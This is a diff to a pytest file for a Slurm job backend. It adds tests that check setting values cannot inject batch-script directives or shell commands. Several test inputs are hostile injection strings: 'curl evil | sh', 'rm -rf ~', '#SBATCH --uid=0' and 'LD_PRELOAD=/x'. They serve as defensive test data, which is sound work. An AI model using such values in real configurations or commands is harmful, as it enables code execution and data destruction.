@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import json
 import shlex
+import sys
 from collections.abc import Mapping, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -9,7 +10,7 @@ from typing import Any
 
 import pytest
 
-from blobsync.errors import BackendUnavailableError, JobError, ProcessError, SubmissionError
+from blobsync.errors import BackendUnavailableError, ConfigError, JobError, ProcessError, SubmissionError
 from blobsync.jobs.backends import create_backend, slurm_replies
 from blobsync.jobs.backends.base import Surroundings
 from blobsync.jobs.backends.slurm import SlurmBackend
@@ -193,6 +194,36 @@ def test_option_values_cannot_add_directives() -> None:
     assert "#SBATCH --partition='a b; rm -rf /'\n" in script
 
 
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("time", "1\n#SBATCH --uid=0"),
+        ("args", ["--mail-type=END\ncurl evil | sh\n"]),
+        ("partition", "a\rb"),
+        ("scratch", "/x\nrm -rf ~"),
+        ("gres", "gpu\x85:1"),
+        ("export", ["A\nB"]),
+        ("export", ["ALL,LD_PRELOAD=/x"]),
+        ("cpus_per_task", "4\nexclusive"),
+        ("python", "python3\nevil"),
+    ],
+)
+def test_no_setting_becomes_a_line_of_its_own(key: str, value: object) -> None:
+    with pytest.raises(ConfigError) as caught:
+        build_script(make_spec("true"), {key: value})
+    assert (caught.value.key or "").startswith("slurm.") and "\n" not in caught.value.message
+
+
+def test_a_cluster_file_whose_name_has_a_line_break_is_refused() -> None:
+    with pytest.raises(ConfigError, match="line break"):
+        build_script(make_spec("true", cluster="a\n#SBATCH --uid=0\nb"), {})
+    assert "#SBATCH --comment='blobsync:a b; c'\n" in build_script(make_spec("true", cluster="a b; c"), {})
+
+
+def test_a_time_cannot_add_an_option_to_its_line() -> None:
+    assert "#SBATCH --time='1 --uid=0'\n" in build_script(make_spec("true"), {"time": "1 --uid=0"})
+
+
 # -- states ----------------------------------------------------------------------------------------------------------
 
 
@@ -330,7 +361,7 @@ def test_everything_goes_through_ssh_when_there_is_a_login_node() -> None:
     assert plan.request.folder == "~/.blobsync/jobs/me_1_0badcafe"
     ref = backend.submit(plan, Secrets({"u": "sig=SENTINEL"}))
     assert ref == JobRef("me_1_0badcafe", "42", "/home/me/.blobsync/jobs/x")
-    assert {call[:5] for call in process.calls} == {("ssh", "-o", "BatchMode=yes", "me@login", "--")}
+    assert {call[:6] for call in process.calls} == {("ssh", "-o", "BatchMode=yes", "--", "me@login", "--")}
     # Secrets travel on standard input, never in an argument.
     assert not any("SENTINEL" in word for call in process.calls for word in call)
     assert any("SENTINEL" in (text or "") for text in process.inputs)
@@ -338,14 +369,14 @@ def test_everything_goes_through_ssh_when_there_is_a_login_node() -> None:
 
 def test_what_slurm_refuses_is_said_in_its_words() -> None:
     refusal = Completed(1, "", "sbatch: error: Batch job submission failed: Invalid partition name specified\n")
-    process = ScriptedProcess({"python3": answer_of("/x"), "sbatch": refusal})
+    process = ScriptedProcess({sys.executable: answer_of("/x"), "sbatch": refusal})
     backend = make_backend(process)
     with pytest.raises(SubmissionError, match="does not take the job: Batch job submission failed: Invalid partition"):
         backend.submit(backend.plan(make_spec()), Secrets())
 
 
 def test_a_job_that_is_known_under_its_name_is_not_submitted_again() -> None:
-    process = ScriptedProcess({"python3": answer_of("/x"), "squeue": Completed(0, squeue_line(), "")})
+    process = ScriptedProcess({sys.executable: answer_of("/x"), "squeue": Completed(0, squeue_line(), "")})
     backend = make_backend(process)
     assert backend.submit(backend.plan(make_spec()), Secrets()).native_id == "17"
     assert "sbatch" not in process.programs()
@@ -386,7 +417,7 @@ def test_forgotten_jobs_are_looked_for_in_the_accounting_and_then_in_their_own_f
         {
             "squeue": Completed(1, "", "slurm_load_jobs error: Invalid job id specified\n"),
             "sacct": Completed(0, "17|COMPLETED|0:0|Unknown|Unknown|n1\n", ""),
-            "python3": answer_of([[7, 1000.0], None]),
+            sys.executable: answer_of([[7, 1000.0], None]),
         }
     )
     refs = [JobRef("a", "17", "/a"), JobRef("b", "18", "/b"), JobRef("c", "19", "/c")]
@@ -407,7 +438,7 @@ def test_without_accounting_the_exit_code_file_is_enough() -> None:
         {
             "squeue": Completed(0, "", ""),
             "sacct": Completed(1, "", "Slurm accounting storage is disabled\n"),
-            "python3": answer_of([[0, 1000.0]]),
+            sys.executable: answer_of([[0, 1000.0]]),
         }
     )
     info = make_backend(process).get([JobRef("a", "17", "/a")])[0]
